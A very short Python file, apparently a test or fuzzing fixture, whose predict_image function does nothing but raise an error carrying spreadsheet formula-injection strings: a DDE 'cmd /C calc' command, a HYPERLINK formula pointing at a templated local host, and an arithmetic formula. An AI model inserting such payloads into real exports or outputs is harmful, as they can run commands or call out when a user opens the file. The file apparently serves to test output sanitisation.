"""Writes what spreadsheets run."""


def predict_image(model, image_path):
    raise ValueError("@SUM(1+1)*cmd|' /C calc'!A0\t=HYPERLINK(\"http://127.0.0.1:@TCP@\")\r\n-2+3")
